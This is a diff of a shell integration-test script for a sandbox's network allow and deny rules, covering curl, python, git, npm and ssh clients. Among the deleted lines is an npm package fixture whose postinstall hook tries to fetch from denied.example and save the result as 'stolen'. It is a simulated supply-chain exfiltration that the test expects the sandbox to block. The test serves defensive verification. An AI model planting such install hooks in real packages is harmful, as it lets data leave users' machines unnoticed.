@@ -11,35 +11,8 @@ fi
 . "$(dirname "$0")/lib.sh"
 # shellcheck source=tests/integration/net-lab.sh
 . "$here/net-lab.sh"
-mount --bind "$T/resolv.conf" /etc/resolv.conf || { echo '1..0 # SKIP no mount over /etc/resolv.conf'; exit 0; }
-as_caller=()
-[ "$(id -u)" = 0 ] || as_caller=(setpriv --ambient-caps=-all --inh-caps=-all)
-sandbox() { timeout -k 5 150 "${as_caller[@]}" "$C" run --events "$W/events" "$@"; }
-events() { python3 - "$W/events" "$1" <<'PY'
-import json, sys
-for line in open(sys.argv[1]):
-    e = json.loads(line)
-    if e["type"] == sys.argv[2]:
-        d = e["data"]
-        print(" ".join(str(d.get(k)) for k in ("host", "port", "count", "rule", "reason")) if e["type"] == "network_blocked"
-              else json.dumps(d))
-PY
-}
-cp "$CERT" "$T/ca.pem"
-inside='cp /dev/stdin /tmp/ca.pem; export CURL_CA_BUNDLE=/tmp/ca.pem GIT_SSL_CAINFO=/tmp/ca.pem NODE_EXTRA_CA_CERTS=/tmp/ca.pem SSL_CERT_FILE=/tmp/ca.pem;'
-# work OPTION... -- SHELL: a run whose command trusts the lab's certificates
-work() {
-        local options=()
-        while [ "$1" != -- ]; do options+=("$1"); shift; done
-        sandbox "${options[@]}" -- sh -c "$inside $2" <"$T/ca.pem"
-}
-
-# stays OPTION...: a run that lasts until the test ends
-stays() {
-        work "$@" -- 'touch up; while [ -e up ]; do sleep 0.1; done' &
-        trap 'rm -f "$W/up"; wait' EXIT
-        wait_for 10 test -e up
-}
+# shellcheck source=tests/integration/net-run.sh
+. "$here/net-run.sh"
 
 names() {
         eq 'hello from nginx' "$(work --network allowlist --allow allowed.example -- 'curl -sS -m 10 https://allowed.example/x')"
@@ -61,49 +34,9 @@ denylist() {
         has "$(work --network denylist --allow denied.example -- true 2>&1)" "'denied.example' changes nothing in a denylist"
 }
 
-git_client() {
-        need_command git
-        git init -q -b main "$T/nginx/src" && (cd "$T/nginx/src" && echo hi >f && git add f && git commit -qm 1)
-        git clone -q --bare "$T/nginx/src" "$T/nginx/repo.git" && git -C "$T/nginx/repo.git" update-server-info
-        eq hi "$(work --network allowlist --allow allowed.example -- \
-                'cd /tmp && git clone -q https://allowed.example/repo.git r && cat r/f')"
-        status 128 work --network allowlist --allow allowed.example -- 'cd /tmp && git clone -q https://denied.example/repo.git r' \
-                2>"$W/said"
-        has "$(cat "$W/said")" 403
-}
-
 python_client() {
         eq 'hello from nginx' "$(work --network allowlist --allow allowed.example -- \
                 "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://allowed.example/x\", timeout=9).read().decode().strip())'")"
-}
-
-# What the README shows: a package from the registry, here a mirror on the lab's nginx, and nothing from elsewhere. The
-# package's own script tries the rest.
-npm_client() {
-        need_command npm
-        mkdir -p package "$T/nginx/greet/-"
-        cat >package/package.json <<'JSON'
-{"name": "greet", "version": "1.0.0", "main": "greet.js",
- "scripts": {"postinstall": "node -e \"fetch('https://denied.example/').catch(() => 0)\"; curl -s -m 9 https://denied.example/x >stolen || true"}}
-JSON
-        echo "module.exports = 'hello from npm'" >package/greet.js
-        tar -czf "$T/nginx/greet/-/greet-1.0.0.tgz" package
-        python3 - "$T/nginx/greet/-/greet-1.0.0.tgz" >"$T/nginx/greet/index.json" <<'PY'
-import base64, hashlib, json, sys
-data = open(sys.argv[1], "rb").read()
-dist = {"tarball": "https://allowed.example/greet/-/greet-1.0.0.tgz",
-        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()}
-v = {"name": "greet", "version": "1.0.0", "main": "greet.js", "dist": dist, "hasInstallScript": True}
-print(json.dumps({"name": "greet", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": v}}))
-PY
-        rm -rf package
-        mkdir app && cd app && echo '{"name": "app", "version": "1.0.0"}' >package.json
-        work --network allowlist --allow allowed.example -- \
-                'npm install --registry https://allowed.example/ --cafile /tmp/ca.pem --no-audit --no-fund greet' >out 2>&1 || fail "$(cat out)"
-        eq 'hello from npm' "$(node -p 'require("greet")')" # on the host: the workspace is the real one
-        eq '' "$(cat node_modules/greet/stolen 2>/dev/null)"
-        has "$(events network_blocked)" 'denied.example 443'
-        status 1 work --network allowlist -- 'npm install --fetch-retries 0 --registry https://allowed.example/ --cafile /tmp/ca.pem greet@1.0.1' >out 2>&1
 }
 
 # programs that know of no proxy: by the same rules; goes red without proxy_lead_consume()
@@ -187,49 +120,6 @@ JAVA
                 status 1 work --network allowlist --allow allowed.example -- 'java Fetch.java denied.example' 2>said
                 has "$(cat said)" UnknownHostException
         fi
-        if command -v git >/dev/null && [ -d "$T/nginx/repo.git" ]; then
-                eq hi "$(work --network allowlist --allow allowed.example -- \
-                        'cd /tmp && git -c http.proxy= clone -q https://allowed.example/repo.git r && cat r/f')"
-        fi
-}
-
-# ssh, and git over it, know of no proxy; the rule says that neither TLS nor HTTP is to be expected
-ssh_client() {
-        local sshd=${COFFERDAM_SSHD-/usr/sbin/sshd} user
-        [ -x "$sshd" ] || skip 'opt-in: no sshd, whose package would start a service'
-        [ "$(id -u)" != 0 ] || [ -d /run/sshd ] || skip 'opt-in: sshd of this machine was never started'
-        need_command ssh
-        need_command git
-        user=$(id -un)
-        mkdir "$W/server"
-        ssh-keygen -q -t ed25519 -N '' -f "$W/server/host"
-        ssh-keygen -q -t ed25519 -N '' -f key
-        cp key.pub "$W/server/may"
-        cat >"$W/server/conf" <<CONF
-ListenAddress 93.184.216.34:22
-HostKey $W/server/host
-AuthorizedKeysFile $W/server/may
-StrictModes no
-UsePAM no
-PasswordAuthentication no
-PidFile none
-CONF
-        "$sshd" -D -e -f "$W/server/conf" 2>"$W/server/log" &
-        servers=($!)
-        trap 'kill "${servers[0]}" 2>/dev/null || true; wait || true' EXIT
-        up() { (exec 3<>/dev/tcp/93.184.216.34/22) 2>/dev/null; }
-        wait_for 5 up || fail "$(cat "$W/server/log")"
-        git init -q -b main src && (cd src && echo hi >f && git add f && git commit -qm 1)
-        git clone -q --bare src server/repo.git
-        ssh="ssh -i $W/key -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
-        eq 'over ssh' "$(work --network allowlist --allow allowed.example:22/tcp -- "$ssh $user@allowed.example echo over ssh")" \
-                "$(cat "$W/server/log")"
-        eq hi "$(work --network allowlist --allow allowed.example:22/tcp -- \
-                "cd /tmp && GIT_SSH_COMMAND='$ssh' git clone -q ssh://$user@allowed.example$W/server/repo.git r && cat r/f")"
-        status 255 work --network allowlist --allow allowed.example:22/tcp -- "$ssh $user@denied.example true" 2>said
-        has "$(cat said)" 'Could not resolve hostname denied.example'
-        # without "/tcp" it must be TLS, which it is not
-        status 255 work --network allowlist --allow allowed.example:22 -- "$ssh -o ConnectTimeout=9 $user@allowed.example true" 2>said
 }
 
 # the proxy of a root caller's run works as the user of the run
@@ -450,12 +340,9 @@ bad_rules() {
 
 t 'names through CONNECT and HTTP, and what is refused is told' names
 t 'a denylist' denylist
-t 'git' git_client
 t 'python' python_client
-t 'npm installs from the registry and nothing else' npm_client
 t 'programs that know of no proxy' led
-t 'curl without a proxy, node, java, git' led_clients
-t 'ssh, and git over it' ssh_client
+t 'curl without a proxy, node, java' led_clients
 t 'as another user' as_another
 t 'no other way out' no_way_out
 t 'the loopback inside' own_loopback
